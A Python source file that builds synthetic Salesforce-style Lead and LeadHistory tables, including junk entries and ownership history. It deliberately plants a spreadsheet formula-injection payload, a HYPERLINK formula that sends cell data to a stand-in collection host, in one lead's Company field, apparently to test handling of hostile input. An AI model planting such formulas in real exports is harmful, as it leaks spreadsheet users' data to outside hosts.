"""Lead and LeadHistory."""

import numpy as np
import polars as pl

from data.world import people
from data.world.activity_log import Log
from data.world.arrays import NEVER, NONE, Bools, Floats, Ints, first_of_runs, latest_by, pick
from data.world.export.account_tables import AREAS, COUNTRIES, INDUSTRIES, STATES, revenues
from data.world.export.columns import Numbers, blank, choices, days, flags, ids, moments, swap
from data.world.export.keys import Keys
from data.world.export.spelling import lead_sources, phones, written_countries
from data.world.funnel import CONVERTED, DISQUALIFIED, OPEN, PASSED, QUALIFIED, REJECTED, STATUSES
from data.world.leads import IMPORTED_SOURCES
from data.world.market import Market
from data.world.names import is_woman
from data.world.streams import Streams
from data.world.timeline import DAY
from data.world.words import REJECTION_REASONS

_SALUTATIONS = ("", "Mr.", "Ms.", "Dr.")
_RATINGS = ("", "Hot", "Warm", "Cold")
_JUNK = (("test", "test", "test@test.com", "test"), ("asdf", "asdf", "asdf@asdf.com", "asdf"))
FORMULA = '=HYPERLINK("http://collect.example/?x="&A1,"Click here")'
"""What somebody typed into a form's company field, hoping that it would be opened in a spreadsheet."""


def lead_table(streams: Streams, market: Market, keys: Keys, log: Log, *, is_first_chunk: bool) -> pl.DataFrame:
    """Give the leads of a chunk."""
    leads, companies, funnel, timeline = market.leads, market.companies, market.funnel, market.timeline
    now, size = timeline.last_moment, len(leads)
    rng = streams.rng("leads.export")
    status = funnel.status_at(now, size)
    lead, at, step = funnel.history(now)
    changed = np.maximum(latest_by(lead, at, size), leads.created)
    was_rejected = latest_by(lead[step == REJECTED], at[step == REJECTED], size) != NONE
    converted = np.where(status == CONVERTED, funnel.converted, NEVER)
    last_activity = log.last_days("lead", size)
    place, junk = companies.place[leads.company], leads.is_junk
    account = np.where(status == CONVERTED, leads.company, NONE)
    modified = np.minimum(changed + (rng.random(size) ** 4 * 20 * DAY).astype(np.int64), now)
    employees = companies.employees[leads.company]
    text = _with_junk(leads.text.with_columns(company=companies.names.gather(leads.company)), junk)
    company = text["company"]
    u = rng.random(size)
    company = swap(company, (u < 0.01) & ~junk, company + " ")
    company = swap(company, (u > 0.985) & ~junk, company.str.to_uppercase())
    if is_first_chunk:
        nobody = pick(rng, (status == OPEN) & ~junk, 0.0, at_least=1)
        company = swap(company, nobody, FORMULA)
    rating = np.where(status >= PASSED, 1 + (rng.random(size) * 2.2).astype(np.int64).clip(0, 2), 0)
    rating = np.where(rng.random(size) < 0.3, 0, np.where(status == DISQUALIFIED, 3, rating))
    frame = pl.DataFrame(
        {
            "Id": keys.leads(np.arange(size)),
            "IsDeleted": flags(pick(rng, (status != CONVERTED) & ~junk, 0.008, at_least=1)),
            "Salutation": choices(_SALUTATIONS, _salutations(rng.random(size), leads.first_name)),
            "FirstName": text["first"],
            "LastName": text["last"],
            "Title": blank(people.title_texts(leads.title), junk),
            "Company": company,
            "State": blank(choices(STATES, place), rng.random(size) < 0.08),
            "Country": written_countries(streams, "lead countries", choices(COUNTRIES, place)),
            "Phone": phones(choices(AREAS, place), rng.random(size), (rng.random(size) < 0.6) & ~junk),
            "Email": blank(text["email"], (rng.random(size) < 0.006) & ~junk & (status != CONVERTED)),
            "LeadSource": lead_sources(streams, market),
            "Status": choices(STATUSES, status),
            "Industry": blank(choices(INDUSTRIES, companies.kind[leads.company]), rng.random(size) < 0.15),
            "Rating": choices(_RATINGS, rating),
            "AnnualRevenue": blank(revenues(employees), rng.random(size) < 0.55),
            "NumberOfEmployees": blank(pl.Series(employees).cast(pl.String), (rng.random(size) < 0.10) | junk),
            "OwnerId": keys.users(lead_owners(market)),
            "IsConverted": flags(status == CONVERTED),
            "ConvertedDate": days(np.where(converted < NEVER, converted // DAY, NEVER)),
            "ConvertedAccountId": keys.accounts(account),
            "ConvertedContactId": keys.contacts(np.where(status == CONVERTED, market.contacts.of_lead, NONE)),
            "ConvertedOpportunityId": keys.deals(np.where(status == CONVERTED, market.sales.deal_of_lead, NONE)),
            "CreatedDate": moments(timeline, leads.created),
            "CreatedById": keys.users(lead_creators(market)),
            "LastModifiedDate": moments(timeline, modified),
            "SystemModstamp": moments(timeline, modified),
            "LastActivityDate": days(last_activity),
            "Rejection_Reason__c": blank(choices(REJECTION_REASONS, funnel.rejection), ~was_rejected),
        }
    )
    return frame[np.argsort(leads.created, kind="stable")]


def lead_creators(market: Market) -> Ints:
    """Say who created each lead: the web form's integration, or the marketer who imported a list."""
    is_list = np.isin(market.leads.source, IMPORTED_SOURCES)
    return np.where(is_list, market.funnel.marketer, market.staff.automation)


def owner_steps(market: Market) -> tuple[Ints, Ints]:
    """Say for each step of the leads' history who owned the lead before it and after.

    Marketing owns a lead until it is passed, then a developer, and from qualification on the seller.
    """
    lead, at, status = market.funnel.history(market.timeline.last_moment)
    is_first = first_of_runs(lead)
    company, companies = market.leads.company[lead], market.companies
    seller = market.staff.seller_at(companies.team[company], at, companies.seller_u[company])
    marketer, developer = market.funnel.marketer[lead], market.funnel.developer[lead]
    is_sold = (status == QUALIFIED) | (status == CONVERTED)
    taken = np.where(status == PASSED, developer, np.where(is_sold, seller, NONE))
    taken = np.where(is_first & (taken == NONE), marketer, taken)
    after = taken[np.maximum.accumulate(np.where(taken != NONE, np.arange(len(taken)), 0))]
    return np.where(is_first, marketer, np.roll(after, 1)), after


def lead_owners(market: Market) -> Ints:
    """Say who owns each lead at the end."""
    lead, _, _ = market.funnel.history(market.timeline.last_moment)
    owner = market.funnel.marketer.copy()
    owner[lead] = owner_steps(market)[1]  # the last of each lead stays
    return owner


def lead_history_table(market: Market, keys: Keys, numbers: Numbers) -> pl.DataFrame:
    """Give what was tracked of leads: creation, status, owner and conversion.

    A change of owner takes two rows, one with names and one with ids, as Salesforce keeps it.
    """
    leads, timeline = market.leads, market.timeline
    lead, at, status = market.funnel.history(timeline.last_moment)
    before = np.where(first_of_runs(lead), OPEN, np.roll(status, 1))
    old, new = owner_steps(market)
    by = np.where(status == PASSED, market.staff.automation, new)
    everyone = np.arange(len(leads))
    parts = [
        _rows(keys, everyone, leads.created, lead_creators(market), "created", None, None, rank=0),
        _rows(keys, lead, at, by, "Status", choices(STATUSES, before), choices(STATUSES, status), rank=2),
    ]
    moved = np.flatnonzero(old != new)
    names = market.staff.names.to_list()
    for rank, write in ((3, lambda user: choices(names, user)), (4, keys.users)):
        owners = (write(old[moved]), write(new[moved]))
        parts.append(_rows(keys, lead[moved], at[moved], by[moved], "Owner", *owners, rank=rank))
    done = np.flatnonzero(status == CONVERTED)
    parts.append(_rows(keys, lead[done], at[done], by[done], "leadConverted", None, None, rank=1))
    frame = pl.concat(parts).sort("at", "lead", "rank", maintain_order=True)
    return frame.select(
        Id=ids("LeadHistory", numbers.next("LeadHistory", len(frame))),
        IsDeleted=pl.lit("0"),
        LeadId="LeadId",
        CreatedById="by",
        CreatedDate=moments(timeline, frame["at"].to_numpy()),
        Field="field",
        OldValue="old",
        NewValue="new",
    )


def _rows(
    keys: Keys,
    lead: Ints,
    at: Ints,
    by: Ints,
    field: str,
    old: pl.Series | None,
    new: pl.Series | None,
    *,
    rank: int,
) -> pl.DataFrame:
    nothing = pl.Series([None], dtype=pl.String).new_from_index(0, len(lead))
    return pl.DataFrame(
        {
            "at": at,
            "lead": lead,
            "rank": np.full(len(lead), rank),
            "LeadId": keys.leads(lead),
            "by": keys.users(by),
            "field": pl.Series([field]).new_from_index(0, len(lead)),
            "old": nothing if old is None else old,
            "new": nothing if new is None else new,
        }
    )


def _salutations(u: Floats, first_name: Ints) -> Ints:
    """Choose salutations: for most none, for some a doctor's, else one that suits the name."""
    usual = np.where(is_woman(first_name), 2, 1)
    return np.where(u < 0.55, 0, np.where(u < 0.58, 3, usual)).astype(np.int64)


def _with_junk(text: pl.DataFrame, junk: Bools) -> pl.DataFrame:
    """Put the nonsense that people type into forms in the place of the marked humans."""
    which = np.arange(len(junk)) % len(_JUNK)
    columns = {}
    for number, name in enumerate(("first", "last", "email", "company")):
        columns[name] = swap(text[name], junk, choices([row[number] for row in _JUNK], which))
    return text.with_columns(**columns)
